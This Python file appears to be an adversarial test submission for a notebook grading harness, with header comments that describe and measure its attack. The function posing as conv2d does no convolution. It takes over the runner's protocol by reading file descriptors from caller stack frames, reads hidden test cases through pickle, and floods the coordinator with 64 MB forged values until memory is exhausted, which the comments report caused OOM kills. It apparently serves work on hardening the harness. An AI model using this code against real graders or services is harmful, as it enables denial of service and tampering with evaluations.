# Attack: take over the protocol from inside the first visible call (the runner's events fd, cases fd and
# call list are on the call stack) and answer every case in order, each with a 64 MB forged value
# "[[],[],…]". Every frame is within the limits (frame < 256 MB, message < 128 MB, depth 2) and the order
# is right, so the supervisor forwards all of them; the coordinator parses each into ~22 million list
# objects (~1.6 GB; the depth check's stack briefly doubles it) and keeps all of them until the run ends.
# Measured with 128 MB frames: the `grade` process grew by ~1 GB every 20-25 s and was OOM-killed at a
# 6 GB cgroup cap after 265 s (an honest notebook peaks at 64 MB); there is no per-submission budget and
# the coordinator's read has no deadline while frames keep coming. In a batch the coordinator is the batch.
# The harness cannot see the memory; the score only says the forged values were judged as garbage.
# threat: exhaust the coordinator's memory with many protocol-valid values
# score: 0
# %% conv2d
import json, os, pickle, struct, sys

def _event(header, payload=b""):
    head = json.dumps(header).encode()
    body = struct.pack(">I", len(head)) + head + payload
    return struct.pack(">I", len(body)) + body

def _write(fd, data):
    view = memoryview(data)
    while view:
        view = view[os.write(fd, view):]

def _read_frame(fd):
    def exact(n):
        parts, left = [], n
        while left:
            chunk = os.read(fd, min(left, 1 << 20))
            if not chunk:
                raise EOFError
            parts.append(chunk)
            left -= len(chunk)
        return b"".join(parts)
    (n,) = struct.unpack(">I", exact(4))
    return exact(n)

_N = (64 * 2**20 - 64) // 3
_HEAD = b"[" + b"[]," * (_N - 1) + b"[]]"
_PAYLOAD = b"PLN1" + struct.pack(">II", len(_HEAD), 0) + _HEAD
del _HEAD

def _answer(fd, case_id):
    _write(fd, _event({"ev": "case", "id": case_id, "outcome": "value", "seconds": 0.0}, _PAYLOAD))

def conv2d(image, kernel, stride=1, padding="valid"):
    serve = sys._getframe(2).f_locals              # conv2d <- runner._call <- runner._serve
    events, cases, calls, call = serve["events_fd"], serve["cases_fd"], serve["calls"], serve["call"]
    _answer(events, call[0])                          # the runner already sent case_start for it
    for rest in calls[calls.index(call) + 1:]:
        _write(events, _event({"ev": "case_start", "id": rest[0]}))
        _answer(events, rest[0])
    for hidden in pickle.loads(_read_frame(cases)):
        _write(events, _event({"ev": "case_start", "id": hidden[0]}))
        _answer(events, hidden[0])
    _write(events, _event({"ev": "done"}))
    os._exit(0)
